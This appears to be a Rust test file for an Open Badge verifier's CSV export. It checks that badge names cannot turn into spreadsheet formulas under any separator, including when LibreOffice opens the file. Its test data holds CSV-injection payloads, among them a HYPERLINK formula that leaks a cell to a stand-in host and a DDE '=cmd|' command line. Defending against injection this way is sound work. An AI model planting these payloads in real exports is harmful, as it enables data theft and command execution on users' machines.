//! The list as CSV, read back as spreadsheets read it: whatever separates their cells, none is a formula.

use std::path::Path;
use std::process::Command;

use crate::samples;
use crate::support::suites::told;
use open_badge_verifier::input::batch::Given;
use open_badge_verifier::report::Verdict;
use open_badge_verifier::report::badge::Alignment;
use open_badge_verifier::view::batch::{Batch, summary};
use open_badge_verifier::view::formatter::English;
use open_badge_verifier::view::text::{Messages, Text};

/// Names by which a badge tries to become a formula.
const NAMES: [&str; 20] = [
    "=1+1",
    "x;=HYPERLINK(\"https://evil.example/?\"&A1;\"ok\");y",
    "x,=1+1,y",
    "a\n=cmd|' /C calc'!A0",
    "a\r\n=1+1",
    "x\t=1+1",
    "x;\"=1+1",
    "x;\"\";=1+1;",
    "x\";\"=1+1",
    "x\",\"=1+1",
    "x; \u{a0}=1+1",
    " =1+1",
    "\u{200b}=1+1",
    "\u{feff}=1+1",
    "\u{7}=1+1",
    "\u{2028}=1+1",
    "+1;-1;@SUM(A1)",
    "|=1+1",
    "'=1",
    "\"=1+1\"",
];

fn with_text<T>(what: impl FnOnce(&Text<'_>) -> T) -> T {
    let messages = Messages::english();
    what(&Text::new("en", &messages, &English))
}

/// A row for each name, which stands in every cell that a badge can fill.
fn exported() -> String {
    with_text(|text| {
        let mut list = Batch::default();
        for name in NAMES {
            let mut report = samples::report(Verdict::Valid);
            let badge = report.badge.as_mut().expect("a badge");
            name.clone_into(&mut badge.name);
            badge.id = Some(name.to_owned());
            badge.issuer.name = Some(name.to_owned());
            badge.issuer.host = None;
            badge.issuer.id = Some(name.to_owned());
            badge.tags = vec![name.to_owned()];
            let [target_url, target_framework, target_code] = [(); 3].map(|()| Some(name.to_owned()));
            let target_name = name.to_owned();
            badge.alignments =
                vec![Alignment { target_name, target_url, target_framework, target_code, target_description: None }];
            let id = list.add(Some(name.to_owned()), Some(name.to_owned()));
            let columns = vec![(name.to_owned(), name.to_owned()), ("Job".to_owned(), name.to_owned())];
            list.give(id, Given { name: name.to_owned(), columns });
            list.finish(id, summary(&report, text));
        }
        list.csv(text)
    })
}

/// The cells of a text as Excel reads them: a cell that begins with a quotation mark goes to the next lone one, and what stands behind
/// that belongs to it too, up to the separator.
fn cells(csv: &str, separator: char) -> Vec<Vec<String>> {
    let mut rows = vec![vec![String::new()]];
    let (mut quoted, mut begins) = (false, true);
    let mut letters = csv.trim_start_matches('\u{feff}').chars().peekable();
    while let Some(letter) = letters.next() {
        let row = rows.last_mut().expect("a row");
        match letter {
            '"' if quoted && letters.next_if_eq(&'"').is_some() => row.last_mut().expect("a cell").push('"'),
            '"' if quoted || begins => quoted = !quoted,
            '\n' if !quoted => rows.push(vec![String::new()]),
            '\r' if !quoted => {}
            _ if letter == separator && !quoted => row.push(String::new()),
            _ => row.last_mut().expect("a cell").push(letter),
        }
        begins = !quoted && (letter == separator || letter == '\n');
    }
    rows.pop_if(|row| row.len() == 1 && row[0].is_empty());
    rows
}

fn is_formula(cell: &str) -> bool {
    cell.trim_start().trim_start_matches('"').trim_start().starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

#[test]
fn no_cell_is_a_formula_whatever_separates_them() {
    let csv = exported();
    for separator in [',', ';', '\t', '|'] {
        let rows = cells(&csv, separator);
        assert_eq!(rows.len(), NAMES.len() + 1, "{separator:?}: one line a row");
        for cell in rows.iter().flatten() {
            assert!(!is_formula(cell), "{separator:?}: {cell}");
        }
        // Nor for one that knows no quotation marks.
        for cell in csv.lines().flat_map(|line| line.split(separator)) {
            assert!(!is_formula(cell.trim_matches('"')), "{separator:?}: {cell}");
        }
    }
}

#[test]
fn every_cell_is_quoted_and_read_back_as_it_was() {
    let csv = exported();
    assert!(csv.starts_with("\u{feff}\"'=1+1\",\"Job\","), "what was given stands first, its headings defused too");
    let rows = cells(&csv, ',');
    let given = NAMES.len() + 1;
    assert!(rows.iter().all(|row| row.len() == given + 19));
    assert_eq!(rows[0][given..given + 3], ["File or link", "Badge", "Issuer"]);
    for line in csv.trim_start_matches('\u{feff}').split("\r\n").filter(|line| !line.is_empty()) {
        assert!(line.starts_with('"') && line.ends_with('"'), "{line}");
        assert!(!line.contains(char::is_control), "{line:?}");
    }
    let named: Vec<&str> = rows.iter().skip(1).map(|row| row[given + 1].as_str()).collect();
    assert_eq!(named[0], "'=1+1");
    assert_eq!(named[1], "x;'=HYPERLINK(\"https://evil.example/?\"&A1;\"ok\");y");
    assert_eq!(named[3], "a =cmd|' /C calc'!A0");
}

#[test]
fn what_is_no_formula_is_left_alone() {
    with_text(|text| {
        let mut list = Batch::default();
        let mut report = samples::report(Verdict::Valid);
        report.badge.as_mut().expect("a badge").name = "Lee, Ann \"Al\" (C++; a-b)".to_owned();
        let id = list.add(Some("one-two.png".to_owned()), Some("ann@mail.example".to_owned()));
        list.finish(id, summary(&report, text));
        list.add(None, None);
        list.stop();
        let rows = cells(&list.csv(text), ',');
        assert_eq!((rows[1][0].as_str(), rows[1][1].as_str()), ("one-two.png", "Lee, Ann \"Al\" (C++; a-b)"));
        assert_eq!((rows[1][6].as_str(), rows[1][9].as_str()), ("ann@mail.example", "valid"));
        assert_eq!((rows[2][0].as_str(), rows[2][8].as_str()), ("Pasted text", "Not checked: stopped"));
    });
}

#[test]
fn the_columns_say_who_says_so_how_bad_it_is_and_why() {
    with_text(|text| {
        let mut list = Batch::default();
        for verdict in [Verdict::Valid, Verdict::Altered] {
            let mut report = samples::report(verdict);
            let badge = report.badge.as_mut().expect("a badge");
            badge.tags = vec!["welding".to_owned(), "Welding".to_owned(), "mapping".to_owned()];
            badge.alignments = Vec::new();
            let id = list.add(Some("badge.png".to_owned()), None);
            list.finish(id, summary(&report, text));
            let columns = vec![("姓名".to_owned(), "张伟".to_owned())];
            list.give(id, Given { name: "张伟".to_owned(), columns });
        }
        let rows = cells(&list.csv(text), ',');
        let [heads, valid, altered] = &rows[..] else { panic!("two rows") };
        let of = |row: &[String], head: &str| {
            let place = heads.iter().position(|other| other == head).unwrap_or_else(|| panic!("{head} in {heads:?}"));
            row[place].clone()
        };
        assert_eq!((heads[0].as_str(), valid[0].as_str()), ("姓名", "张伟"));
        let codes = ["Verdict code", "Severity code", "Reason code", "Issuer known by"];
        assert_eq!(codes.map(|head| of(valid, head)), ["valid", "good", "conforms", "domain"]);
        assert_eq!(codes.map(|head| of(altered, head)), ["altered", "bad", "signature-mismatch", ""]);
        assert_eq!(of(valid, "Issuer's host or id"), "badges.northwind.example");
        assert_eq!(of(valid, "Skills"), "welding; mapping", "each once");
        assert!(of(altered, "Reason").starts_with("Its contents don't match"), "{}", of(altered, "Reason"));
        for head in ["Badge", "Issuer", "Issuer's host or id", "Issued", "Credential id"] {
            let [sure, unsure] = [of(valid, head), of(altered, head)];
            assert!(!sure.contains("unconfirmed") && unsure.ends_with(" (unconfirmed)"), "{head}: {sure}, {unsure}");
        }
        assert_eq!(of(altered, "Skills"), "welding (unconfirmed); mapping (unconfirmed)");
    });
}

/// `LibreOffice` reads the file with each separator and evaluates what it takes for formulas.
#[test]
fn libreoffice_finds_no_formula() {
    if Command::new("soffice").arg("--version").output().is_err() {
        told("LibreOffice has not looked for formulas: soffice is not installed (Debian: libreoffice-calc-nogui)");
        return;
    }
    let folder = Path::new(env!("CARGO_TARGET_TMPDIR")).join("csv");
    std::fs::create_dir_all(&folder).expect("a folder");
    std::fs::write(folder.join("list.csv"), exported()).expect("the CSV");
    // That formulas are evaluated at all is shown by one that is none of ours.
    std::fs::write(folder.join("formula.csv"), "\"a\"\r\n\"=1+1\"\r\n").expect("another");
    for separator in [',', ';', '\t'] {
        assert_eq!(formulas(&folder, separator), [0, 1], "{separator:?}");
    }
}

/// How many formulas `LibreOffice` finds in the list, and in the other file.
/// (<https://help.libreoffice.org/latest/en-US/text/shared/guide/csv_params.html>)
fn formulas(folder: &Path, separator: char) -> [usize; 2] {
    let filter = format!("CSV:{},34,76,1,,0,false,true,false,false,false,0,true", u32::from(separator));
    let profile = format!("-env:UserInstallation=file://{}", folder.join("profile").display());
    let files = ["list", "formula"].map(|name| folder.join(name));
    let run = Command::new("soffice")
        .args([&profile, "--headless", &format!("--infilter={filter}"), "--convert-to", "fods", "--outdir"])
        .arg(folder)
        .args(files.iter().map(|file| file.with_extension("csv")))
        .output()
        .expect("soffice");
    files.map(|file| {
        let sheet = file.with_extension("fods");
        let xml =
            std::fs::read_to_string(&sheet).unwrap_or_else(|_| panic!("{}", String::from_utf8_lossy(&run.stderr)));
        std::fs::remove_file(sheet).expect("the sheet");
        xml.matches("table:formula").count()
    })
}
